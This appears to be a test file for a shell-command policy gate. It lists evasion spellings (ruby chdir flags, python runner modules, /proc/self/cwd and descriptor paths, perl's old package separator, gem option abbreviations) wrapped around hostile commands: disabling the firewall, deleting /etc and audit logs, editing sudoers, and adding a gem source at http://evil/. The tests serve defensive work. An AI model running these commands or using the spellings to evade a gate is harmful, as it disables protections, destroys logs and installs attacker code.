"""Attack b37f, findings 1, 8, 9, 10 and 13: ruby's own chdir (`-C DIR`, `-X DIR`, `-xDIR`)
before a relative script, python's runner modules and programs that run a script given after
them (memory_profiler, kernprof, pudb, bpython...), perl's old package separator
(`-MExtUtils'Command`), `gem sources`' OptionParser spellings of `--add` (`-aURL`, `-la URL`),
and a program's own script through /proc/self/cwd or a descriptor opened on its folder
(`sh /dev/fd/3/service ufw stop 3</usr/sbin`). Judged as the gates judge them: typed and as an
exec command. Honest lines beside them still run."""

from tests.policy_rows import assert_held_or_runs
from tests.rows import each

UFW = "/usr/sbin/ufw disable"
ADD = "gem sources --add http://evil/"
SVC = "service ufw stop"
# (line, held): held means denied or confirmed typed and as an exec command; not held: allowed
ROWS = [
    # finding 1: ruby's own chdir before a relative script (and bun's --cwd)
    *((f"{ruby} {opts} {ADD}", True) for ruby in ("ruby", "jruby", "truffleruby", "ruby3.1")
      for opts in ("-C /usr/bin", "-C/usr/bin", "-wC /usr/bin", "-C /usr -C bin")),
    *((f"ruby {opts}", True) for opts in (
        f"-X /usr/bin {ADD}", f"-x/usr/bin {ADD}", f"-C / usr/bin/{ADD}", f"-C /us? bin/{ADD}",
        f"-C ../../usr/bin {ADD}", "-C /usr/sbin ufw disable")),
    (f"cd /usr && ruby -C bin {ADD}", True), (f"jruby -X /usr/bin {ADD}", True),
    ("bun --cwd /usr/bin npm config set script-shell /tmp/x", True),
    ("bun --cwd=/usr/bin npm config set script-shell /tmp/x", True),
    # honest: a script of one's own in another folder, code on the line
    ("ruby -C /tmp x.rb", False), ("ruby -C app bin/rails s", False), ("ruby -x/tmp x.rb", False),
    ("ruby -C /usr/bin -e 'puts 1'", False), ("jruby -Xcompile.mode=JIT x.rb", False),
    ("bun --cwd app run dev", False),
    # finding 8: runner modules and REPL programs that run the script given after them
    *((f"python3 -m {m} {UFW}", True) for m in (
        "memory_profiler", "kernprof -l", "kernprof -l -v", "yappi", "pudb", "pudb.run", "pudb --",
        "pydevd --file", "pydevd --port 5678 --client 127.0.0.1 --file", "trepan3k", "web_pdb",
        "pdbr", "snoop", "idlelib.idle -r", "idlelib.pyshell -r", "bpython", "memory_profiler -m cProfile",
        "memory_profiler.__main__", "memory_profile?")),
    ("python3 -m memory_profiler -m pip config set global.log /etc/sudoers", True),
    *((f"{p} {UFW}", True) for p in ("bpython", "bpython -i", "ptpython", "ptpython --vi")),
    # honest: profiling and debugging one's own script, the REPLs alone
    *((f"python3 -m {m} x.py", False) for m in ("memory_profiler", "kernprof -l", "pudb", "yappi -o out",
                                                "snoop")),
    ("bpython", False), ("ptpython", False), ("bpython x.py", False), ("python3 -m idlelib.idle", False),
    # finding 13: /proc/self/cwd (the line's own folder) and a descriptor on a folder
    ("cd / && python3 /proc/self/cwd/usr/sbin/ufw disable", True),
    (f"cd / && sh /proc/self/cwd/usr/sbin/{SVC}", True),
    ("cd /usr/sbin && python3 /proc/self/cwd/ufw disable", True),
    (f"cd /usr/sbin && sh /proc/self/cwd/{SVC}", True),
    (f"cd /usr/sbin && sh /proc/thread-self/cwd/{SVC}", True),
    (f"cd /usr/sbin && sh /proc/self/task/12/cwd/{SVC}", True),
    ("python3 /proc/self/cwd/../../usr/sbin/ufw disable", True),
    (f"sh /dev/fd/3/{SVC} 3</usr/sbin", True), (f"sh /proc/self/fd/3/{SVC} 3</usr/sbin", True),
    (f"sh /dev/stdin/{SVC} < /usr/sbin", True), (f"perl /dev/fd/3/{SVC} 3</usr/sbin", True),
    ("cd /etc/init.d && sh /proc/self/cwd/ufw stop", True), ("sh /dev/fd/3/ufw stop 3</etc/init.d", True),
    (f"sh /dev/fd/3/../sbin/{SVC} 3</usr/bin", True), (f"exec 3</usr/sbin; sh /dev/fd/3/{SVC}", True),
    (f"cd /usr && sh /proc/self/cwd/../usr/sbin/{SVC}", True),
    # a pattern in the folder `cd` goes to (bash expands it)
    (f"cd /usr/s?in && sh /proc/self/cwd/{SVC}", True), (f"cd /usr/s?in && sh ./{SVC}", True),
    ("cd /usr/s?in && python3 ufw disable", True), ("cd /tm? && sh ./x.sh a", False),
    # honest: a script of one's own by the same spellings
    ("cd /tmp && sh /proc/self/cwd/x.sh", False), ("sh /dev/fd/3/x.sh 3</tmp", False),
    ("python3 /proc/self/cwd/x.py a", False),
    # finding 9: perl's old package separator `'` for `::`
    *((f"perl \"-MExtUtils'Command\" -e {tail}", True) for tail in (
        "rm_rf /etc", "rm_rf /var/log/audit", "rm_f /var/log/wtmp", "mv /etc/audit/rules.d /tmp/",
        "cp /tmp/x /etc/systemd/system/x.service", "\"ExtUtils'Command'rm_rf\" /etc",
        "\"ExtUtils::Command'rm_f\" /var/log/wtmp")),
    ("perl \"-MExtUtils'Command'MM\" -e uninstall /etc", True),
    ("perl \"-MExtUtils'Command\" -e rm_rf build", False), ("perl -e \"print 'a'\"", False),
    # finding 10: `gem sources --add` by OptionParser's spellings
    *((f"gem {verb} {opts}", True) for verb in ("sources", "so", "sou?") for opts in (
        "-ahttp://evil/", "-la http://evil/", "-lahttp://evil/", "-ca http://evil/",
        "-c -ahttp://evil/", "-fa http://evil/", "-Va http://evil/", "--ad=http://evil/")),
    ("touch -- -la; gem sources -l? http://evil/", True),
    # honest: listing, clearing, updating, removing (`-ra`: `a` is the removed source)
    *((f"gem sources {opts}", False) for opts in ("-l", "--list", "-c", "-u", "-ra http://evil/",
                                                   "-r https://rubygems.org/")),
    ("gem install rails", False),
]


@each(("line", "held"), ROWS)
def test_b37f_a_lines(default_policy, line: str, held: bool) -> None:
    assert_held_or_runs(default_policy, line, held)
